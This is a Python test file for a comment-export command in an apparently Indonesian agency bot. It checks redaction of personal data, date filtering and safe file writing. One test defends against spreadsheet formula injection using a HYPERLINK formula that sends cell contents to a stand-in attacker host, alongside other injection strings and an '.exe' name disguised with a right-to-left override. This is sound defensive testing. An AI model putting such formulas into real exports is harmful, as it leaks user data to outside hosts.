"""`tanggap export`: a file that runs nothing in a spreadsheet and names nobody, and a line in the journal."""

import asyncio
import csv
import io
import json
import sqlite3
import stat
from collections.abc import Awaitable, Callable
from contextlib import closing
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import Result
from fakes import comment
from small_office import CONFIG, TOKEN
from typer.testing import CliRunner

from bot.app import opened_quietly
from bot.assembly import Services
from bot.cli import app
from bot.clock import FakeClock
from bot.domain.comment import Platform
from bot.files.config import load_settings
from bot.services.exporting import without
from bot.store.database import Database

NOON = datetime(2026, 11, 23, 5, tzinfo=UTC)
FORMULA = '=HYPERLINK("https://jahat.example/?"&A1)'
PHONE = "081234567890"
TODAY = ("--since", "2026-11-23", "--until", "2026-11-23")


class Desk:
    """A folder with a config and a database, and the command."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.config, self.clock = folder, folder / "config.yaml", FakeClock(NOON)
        self.config.write_text(CONFIG, encoding="utf-8")

    def __call__(self, name: str, *arguments: str) -> Result:
        words = ["export", str(self.folder / name), *arguments, "--config", str(self.config)]
        return CliRunner().invoke(app, words, env={"TANGGAP_BOT_TOKEN": TOKEN})

    def lives(self, story: Callable[[Services, Database], Awaitable[None]]) -> None:
        async def go() -> None:
            settings = load_settings(self.config, {"TANGGAP_BOT_TOKEN": TOKEN})
            async with opened_quietly(settings, self.clock) as (services, database):
                await story(services, database)

        asyncio.run(go())

    def brought(self, *texts: str, days: int = 0) -> None:
        async def story(services: Services, _: Database) -> None:
            for text in texts:
                at = NOON + timedelta(days=days)
                one = comment(text, at=at)
                await services.intake.receive(one, f"test:{one.origin.message}", "host")

        self.lives(story)

    def rows(self, name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO((self.folder / name).read_text("utf-8-sig"), newline="")))

    def journal(self) -> list[dict[str, object]]:
        with closing(sqlite3.connect(self.folder / "tanggap.db")) as conn:
            found = conn.execute(
                "SELECT canonical FROM journal WHERE action = 'export' ORDER BY seq"
            ).fetchall()
        return [json.loads(line)[5] for (line,) in found]


@pytest.fixture
def desk(tmp_path: Path) -> Desk:
    return Desk(tmp_path)


def test_the_days_that_were_asked_for_and_no_others(desk: Desk) -> None:
    desk.brought("Kemarin air mati", days=-1)
    desk.brought("Kapan jadwal perekaman KTP?")
    desk.brought("Besok saya datang", days=1)
    done = desk("hari.csv", *TODAY)
    assert (done.exit_code, "1 komentar ditulis" in done.stdout) == (0, True)
    [row] = desk.rows("hari.csv")
    assert row["teks"] == "Kapan jadwal perekaman KTP?"
    assert row["diterima"] == "2026-11-23 12:00:00 +0700"
    assert (row["label"], row["status"]) == ("Pertanyaan", "Baru")
    [line] = desk.journal()
    assert (line["comments"], line["whole"]) == (1, False)


def test_a_name_and_a_number_leave_only_when_somebody_asks_for_the_whole(desk: Desk) -> None:
    desk.brought(f"Tolong hubungi saya di {PHONE}, airnya mati")
    assert desk("tertutup.jsonl", *TODAY).exit_code == 0
    closed = (desk.folder / "tertutup.jsonl").read_text("utf-8")
    assert PHONE not in closed
    assert json.loads(closed)["penulis"] == ""
    done = desk("utuh.jsonl", *TODAY, "--whole")
    assert "memuat data pribadi" in done.stderr
    whole = json.loads((desk.folder / "utuh.jsonl").read_text("utf-8"))
    assert PHONE in whole["teks"]
    assert whole["penulis"]
    assert [line["whole"] for line in desk.journal()] == [False, True]


def test_a_spreadsheet_runs_nothing_of_it_and_nasty_words_stay_in_their_cell(desk: Desk) -> None:
    nasty = [FORMULA, f' "{FORMULA}', 'a","b\nc', "@SUM(1)", "-1+1", "\tx", "\u202egnp.exe", "lone \ud800"]
    desk.brought(*nasty)
    assert desk("lembar.csv", *TODAY).exit_code == 0
    cells = [row["teks"] for row in desk.rows("lembar.csv")]
    assert len(cells) == len(nasty)
    assert not [
        cell for cell in cells if cell.lstrip(" \"'").startswith(("=", "+", "-", "@")) and cell[0] != "'"
    ]
    assert {len(row) for row in desk.rows("lembar.csv")} == {16}


def test_whose_life_was_at_risk_stands_there_without_a_word(desk: Desk) -> None:
    async def story(_services: Services, database: Database) -> None:
        with closing(sqlite3.connect(database.path)) as beside:
            beside.execute("UPDATE case_ SET sensitive = 1")
            beside.commit()

    desk.brought("Saya ingin pergi selamanya")
    desk.lives(story)
    assert desk("semua.csv", *TODAY, "--whole").exit_code == 0
    [row] = desk.rows("semua.csv")
    assert (row["teks"], row["penulis"], row["tautan"]) == ("(tidak ditampilkan)", "", "")


@pytest.mark.parametrize(
    ("name", "more", "said"),
    [
        ("hari.xlsx", (), "berakhiran .csv atau .jsonl"),
        ("config.yaml", (), "berakhiran"),
        ("hari.csv", ("--since", "kemarin"), "bukan tanggal"),
        ("hari.csv", ("--since", "2026-12-01", "--until", "2026-11-01"), "lebih awal"),
        ("tidak/ada/hari.csv", (), "tidak dapat ditulis"),
    ],
)
def test_what_cannot_be_done_is_said_and_no_half_file_stays(
    desk: Desk, name: str, more: tuple[str, ...], said: str
) -> None:
    done = desk(name, *more)
    assert done.exit_code in {1, 2}
    assert said in done.stderr
    assert not list(desk.folder.glob("hari*"))
    assert not desk.folder.joinpath("tanggap.db").exists() or desk.journal() == []


def test_a_file_that_stands_there_is_not_written_over(desk: Desk) -> None:
    (desk.folder / "hari.csv").write_text("milik orang lain", "utf-8")
    assert "sudah ada" in desk("hari.csv", *TODAY).stderr
    assert (desk.folder / "hari.csv").read_text("utf-8") == "milik orang lain"


def test_neither_a_link_nor_the_file_itself_tells_others_who_wrote(desk: Desk) -> None:
    async def story(services: Services, _: Database) -> None:
        one = comment("Kapan air mengalir lagi?", at=NOON)
        for number, platform in enumerate((Platform.CSV, Platform.TELEGRAM_DISCUSSION)):
            origin = replace(one.origin, platform=platform, message=f"m{number}")
            there = replace(one, origin=origin, link="https://x.com/budi.santoso/status/1")
            await services.intake.receive(there, f"test:{number}", "host")

    desk.lives(story)
    assert desk("semua.csv", *TODAY).exit_code == 0
    assert sorted(row["tautan"] for row in desk.rows("semua.csv")) == [
        "",
        "https://x.com/budi.santoso/status/1",
    ], "only a link into the agency's own discussion stays"
    assert stat.S_IMODE((desk.folder / "semua.csv").stat().st_mode) == 0o600
    assert desk("utuh.csv", "--whole", *TODAY).exit_code == 0
    assert all(row["tautan"] for row in desk.rows("utuh.csv"))


@pytest.mark.parametrize(
    ("name", "answer", "left"),
    [
        ("Budi Santoso", "Halo Kak Budi Santoso, terima kasih.", "Halo Kak …, terima kasih."),
        ("Budi", "Halo Kak BUDI, Budiman sudah dihubungi.", "Halo Kak …, Budiman sudah dihubungi."),
        ("", "Halo Kak, terima kasih.", "Halo Kak, terima kasih."),
    ],
)
def test_an_answer_keeps_its_words_and_not_the_name_it_greets(name: str, answer: str, left: str) -> None:
    assert without(name, answer) == left
